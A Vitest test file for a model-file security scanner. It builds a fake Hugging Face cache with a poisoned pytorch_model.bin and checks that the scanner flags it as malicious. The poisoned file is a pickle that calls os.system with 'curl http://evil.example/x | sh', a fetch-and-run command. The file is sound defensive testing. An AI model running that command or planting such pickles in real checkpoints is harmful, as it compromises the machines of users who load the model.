import { mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import type { ScanResult } from '../../src/core/report-types.js';
import { buildZip } from '../../src/formats/zip/builder.js';
import { runCli } from '../helpers/cli.js';
import { sha256 } from '../helpers/fixture-hub.js';
import { writeCachedSnapshot } from '../helpers/hf-cache.js';
import { osSystemPickle } from '../helpers/pickles.js';

const work = mkdtempSync(join(tmpdir(), 'mg-hfcache-cli-'));
afterAll(() => rmSync(work, { recursive: true, force: true }));

const evil = buildZip([
  { name: 'archive/data.pkl', data: osSystemPickle('curl http://evil.example/x | sh') },
  { name: 'archive/version', data: Buffer.from('3\n') },
]);
const COMMIT = '0123456789abcdef0123456789abcdef01234567';
// HF_HOME as a user sets it: the cache is its hub/ folder, as huggingface_hub resolves it.
const home = join(work, 'hf-home');
const root = join(home, 'hub');
const entry = writeCachedSnapshot(root, 'acme/bert', COMMIT, [
  { path: 'config.json', content: Buffer.from('{"model_type": "bert"}\n') },
  { path: 'pytorch_model.bin', content: evil },
]);
writeCachedSnapshot(root, 'acme/clean', COMMIT, [{ path: 'config.json', content: Buffer.from('{}\n') }]);

/** The CLI (built, sandboxed by default) with only this cache in its environment. */
function run(...args: string[]) {
  const env: NodeJS.ProcessEnv = { ...process.env, HF_HOME: home, XDG_CONFIG_HOME: work };
  delete env.HF_HUB_CACHE;
  delete env.HUGGINGFACE_HUB_CACHE;
  return runCli(args, { env });
}

const evilOf = (report: ScanResult) => report.files.find((f) => f.hfCache?.path === 'pytorch_model.bin');

describe('modelgate scan of a Hugging Face cache', () => {
  it('finds the malicious checkpoint of a snapshot folder under its repo path', () => {
    const r = run('scan', '-f', 'json', join(entry, 'snapshots', COMMIT));
    expect(r.status).toBe(1);
    const report = JSON.parse(r.stdout) as ScanResult;
    expect(report.files.map((f) => f.path)).toEqual(['config.json', 'pytorch_model.bin']);
    expect(report.files[1]).toMatchObject({
      path: 'pytorch_model.bin',
      verdict: 'malicious',
      sha256: sha256(evil),
      hfCache: { repo: 'acme/bert', commit: COMMIT, refs: ['main'], path: 'pytorch_model.bin', blob: sha256(evil) },
    });
  });

  it('--hf-cache scans the local cache and says which revisions are there', () => {
    const r = run('scan', '--hf-cache', '-f', 'json');
    expect(r.status).toBe(1);
    expect(r.stderr).toContain(`Hugging Face cache ${root}:`);
    expect(r.stderr).toContain(`acme/bert: ${COMMIT} (main)`);
    const report = JSON.parse(r.stdout) as ScanResult;
    expect(report.targets).toEqual([entry, join(root, 'models--acme--clean')]);
    expect(evilOf(report)).toMatchObject({
      path: `snapshots/${COMMIT}/pytorch_model.bin`,
      verdict: 'malicious',
      targetIndex: 0,
      hfCache: { repo: 'acme/bert' },
    });
    expect(report.files.some((f) => f.path.startsWith('blobs/'))).toBe(false);
  });

  it('--hf-cache REPO[@REVISION] scans one repo', () => {
    const r = run('scan', '--hf-cache', 'acme/bert@main', '-f', 'json');
    expect(r.status).toBe(1);
    const report = JSON.parse(r.stdout) as ScanResult;
    expect(report.targets).toEqual([join(entry, 'snapshots', COMMIT)]);
    expect(evilOf(report)).toMatchObject({ path: 'pytorch_model.bin', verdict: 'malicious' });
    expect(run('scan', '--hf-cache', 'acme/clean', '-q').status).toBe(0);
  });

  it('--hf-cache refuses other targets, and a repo the cache does not hold, as usage errors', () => {
    const other = run('scan', '--hf-cache', 'acme/bert', entry);
    expect(other.status).toBe(2);
    const missing = run('scan', '--hf-cache', 'acme/none');
    expect(missing.status).toBe(2);
    expect(missing.stderr).toMatch(/holds no acme\/none/);
  });

  it('follows a link named on the command line, wherever it leads', () => {
    const away = join(work, 'elsewhere.bin');
    writeFileSync(away, osSystemPickle());
    const link = join(work, 'link.bin');
    symlinkSync(away, link);
    const r = run('scan', '-f', 'json', link);
    expect(r.status).toBe(1);
    expect((JSON.parse(r.stdout) as ScanResult).files[0]).toMatchObject({ path: link, format: 'pickle', verdict: 'malicious' });
  });

  it('documents --hf-cache in --help', () => {
    const help = run('scan', '--help');
    expect(help.stdout).toMatch(/--hf-cache \[repo\]/);
    expect(help.stdout).toMatch(/Hugging Face cache:/);
  });
});
